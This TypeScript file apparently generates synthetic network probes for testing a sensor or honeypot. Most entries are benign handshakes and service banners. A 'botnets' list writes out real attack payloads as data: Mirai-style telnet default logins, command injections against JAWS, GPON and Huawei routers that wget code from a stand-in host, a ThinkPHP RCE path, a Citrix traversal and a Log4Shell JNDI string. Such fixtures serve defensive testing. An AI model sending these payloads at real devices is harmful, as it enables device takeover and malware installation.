import type { SensorObservation } from '../../core/events/sensor-event.ts'
import type { Random } from '../random.ts'

/** One thing to send to one port. */
export type Stimulus = {
  readonly protocol: SensorObservation['protocol']
  readonly port: number
  readonly payload: Buffer
}

type Draw = (random: Random) => Stimulus

const tcp = (port: number, text: string): Stimulus => ({
  protocol: 'tcp',
  port,
  payload: Buffer.from(text, 'latin1'),
})
const udp = (port: number, text: string): Stimulus => ({ ...tcp(port, text), protocol: 'udp' })

const browsers = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0',
  'curl/8.5.0',
  'python-requests/2.31.0',
  'Go-http-client/1.1',
]

export function webRequest(path: string, agent: string, more = ''): string {
  return `GET ${path} HTTP/1.1\r\nHost: 203.0.113.248\r\nUser-Agent: ${agent}\r\nAccept: */*\r\n${more}\r\n`
}

const webPorts = [80, 80, 80, 8080, 8000, 8443, 81, 8888]

export function web(paths: readonly string[], agents: readonly string[] = browsers): Draw {
  return (random) => tcp(random.pick(webPorts), webRequest(random.pick(paths), random.pick(agents)))
}

const clients = [
  'SSH-2.0-Go',
  'SSH-2.0-libssh_0.9.6',
  'SSH-2.0-PuTTY_Release_0.78',
  'SSH-2.0-OpenSSH_9.6',
  'SSH-2.0-paramiko_3.4.0',
]

export const ssh: Draw = (random) => {
  const lists = [
    'curve25519-sha256,ecdh-sha2-nistp256,diffie-hellman-group14-sha256',
    'ssh-ed25519,rsa-sha2-512,rsa-sha2-256',
    random.pick([
      'aes128-ctr,aes256-ctr',
      'aes128-gcm@openssh.com,aes128-ctr',
      'chacha20-poly1305@openssh.com',
    ]),
    'aes128-ctr,aes256-ctr',
    random.pick(['hmac-sha2-256', 'hmac-sha2-256-etm@openssh.com,hmac-sha2-256']),
    'hmac-sha2-256',
    'none',
    'none',
    '',
    '',
  ]
  const body = Buffer.concat([
    Buffer.from([20]),
    Buffer.from(random.hex(32), 'hex'),
    ...lists.map((list) => Buffer.concat([uint32(list.length), Buffer.from(list)])),
    Buffer.alloc(5),
  ])
  const padding = 8 - ((body.length + 5) % 8) + 8
  const packet = Buffer.concat([
    uint32(body.length + padding + 1),
    Buffer.from([padding]),
    body,
    Buffer.alloc(padding),
  ])
  const identification = Buffer.from(`${random.pick(clients)}\r\n`)
  return {
    protocol: 'tcp',
    port: random.pick([22, 22, 22, 2222, 22222]),
    payload: random.chance(0.6) ? Buffer.concat([identification, packet]) : identification,
  }
}

const suites = ['130213031301', 'c02bc02fc02cc030', 'cca9cca8c013c014', '009c009d002f0035']

export const tls: Draw = (random) => {
  const offered = Buffer.from(suites.slice(0, random.between(1, 4)).join(''), 'hex')
  const extensions = Buffer.concat([
    extension(0, Buffer.concat([uint16(14), Buffer.from([0]), vector16(Buffer.from('example.com'))])),
    extension(10, vector16(Buffer.from('001d00170018', 'hex'))),
    extension(11, Buffer.from([1, 0])),
    extension(13, vector16(Buffer.from('040308040401', 'hex'))),
    ...(random.chance(0.5) ? [extension(16, vector16(Buffer.from('\x02h2\x08http/1.1')))] : []),
    extension(43, Buffer.from('0403040303', 'hex')),
  ])
  const body = Buffer.concat([
    Buffer.from('0303', 'hex'),
    Buffer.from(random.hex(64), 'hex'),
    Buffer.from([0]),
    vector16(offered),
    Buffer.from([1, 0]),
    vector16(extensions),
  ])
  const message = Buffer.concat([Buffer.from([1, 0]), uint16(body.length), body])
  const payload = Buffer.concat([Buffer.from([22, 3, 1]), vector16(message)])
  return { protocol: 'tcp', port: random.pick([443, 443, 8443, 993, 9443]), payload }
}

export const rdp: Draw = (random) => {
  const cookie = `Cookie: mstshash=${random.pick(['hello', 'Administr', 'Test', 'a', 'user'])}\r\n`
  const rest = Buffer.concat([Buffer.from(cookie), Buffer.from('0100080003000000', 'hex')])
  const x224 = Buffer.concat([Buffer.from([rest.length + 6, 0xe0, 0, 0, 0, 0, 0]), rest])
  const payload = Buffer.concat([Buffer.from([3, 0]), uint16(x224.length + 4), x224])
  return { protocol: 'tcp', port: 3389, payload }
}

const smbHead = '\xffSMB\x72\0\0\0\0\x18\x53\xc8\0\0\0\0\0\0\0\0\0\0\0\0\xff\xff\xff\xfe\0\0\0\0\0\x22\0'

export const smb: Draw = () => tcp(445, `\0\0\0\x45${smbHead}\x02NT LM 0.12\0\x02SMB 2.002\0\x02SMB 2.???\0`)

export const services: readonly Draw[] = [
  () => tcp(6379, '*1\r\n$4\r\nINFO\r\n'),
  () => tcp(1883, '\x10\x14\0\x04MQTT\x04\x02\0\x3c\0\x08probe123'),
  () => tcp(27017, '\x3a\0\0\0\x01\0\0\0\0\0\0\0\xd4\x07\0\0\0\0\0\0admin.$cmd\0\0\0\0\0\x01\0\0\0'),
  () => tcp(5432, '\0\0\0\x08\x04\xd2\x16\x2f'),
  () =>
    tcp(1433, '\x12\x01\0\x2f\0\0\x01\0\0\0\x1a\0\x06\x01\0\x20\0\x01\x02\0\x21\0\x01\x03\0\x22\0\x04\xff'),
  () => tcp(5900, 'RFB 003.008\n'),
  () => tcp(9200, webRequest('/_cat/indices', 'curl/8.5.0')),
  () => tcp(11211, 'stats\r\n'),
  () => tcp(502, '\0\x01\0\0\0\x05\xff\x2b\x0e\x01\0'),
  () => tcp(21, 'USER anonymous\r\n'),
  () => tcp(25, 'EHLO probe.example.net\r\n'),
  () => tcp(110, '\r\n\r\n'),
  () => udp(53, '\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x07version\x04bind\0\0\x10\0\x03'),
  () => udp(53, '\x12\x35\x01\0\0\x01\0\0\0\0\0\0\x07example\x03com\0\0\xff\0\x01'),
  () =>
    udp(
      161,
      '\x30\x29\x02\x01\0\x04\x06public\xa0\x1c\x02\x04\x11\x22\x33\x44\x02\x01\0\x02\x01\0\x30\x0e\x30\x0c\x06\x08\x2b\x06\x01\x02\x01\x01\x01\0\x05\0',
    ),
  () => udp(123, '\x17\0\x03\x2a\0\0\0\0'),
  () =>
    udp(
      1900,
      'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n',
    ),
  () =>
    udp(
      5060,
      'OPTIONS sip:100@203.0.113.248 SIP/2.0\r\nVia: SIP/2.0/UDP 198.51.100.7:5060\r\nUser-Agent: friendly-scanner\r\n\r\n',
    ),
]

export const botnets: readonly Draw[] = [
  () => tcp(23, 'root\r\nxc3511\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n'),
  () => tcp(2323, 'admin\r\nadmin\r\nsh\r\n/bin/busybox ECCHI\r\n'),
  () =>
    tcp(80, webRequest('/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/jaws;sh+/tmp/jaws', 'Hello, world')),
  () =>
    tcp(
      8080,
      'POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n\r\nXWebPageName=diag&diag_action=ping&dest_host=`wget http://192.0.2.9/g`',
    ),
  () =>
    tcp(
      37215,
      'POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: 203.0.113.248:37215\r\n\r\n<NewStatusURL>$(/bin/busybox wget -g 192.0.2.9)</NewStatusURL>',
    ),
  () =>
    tcp(
      80,
      webRequest(
        '/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array',
        'Go-http-client/1.1',
      ),
    ),
  () => tcp(443, webRequest('/vpn/../vpns/cfg/smb.conf', 'python-requests/2.31.0')),
  () => tcp(80, webRequest('/', '\x24{jndi:ldap://192.0.2.9:1389/a}')),
]

function uint16(value: number): Buffer {
  return Buffer.from([value >> 8, value & 0xff])
}

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}

function vector16(content: Buffer): Buffer {
  return Buffer.concat([uint16(content.length), content])
}

function extension(type: number, content: Buffer): Buffer {
  return Buffer.concat([uint16(type), vector16(content)])
}
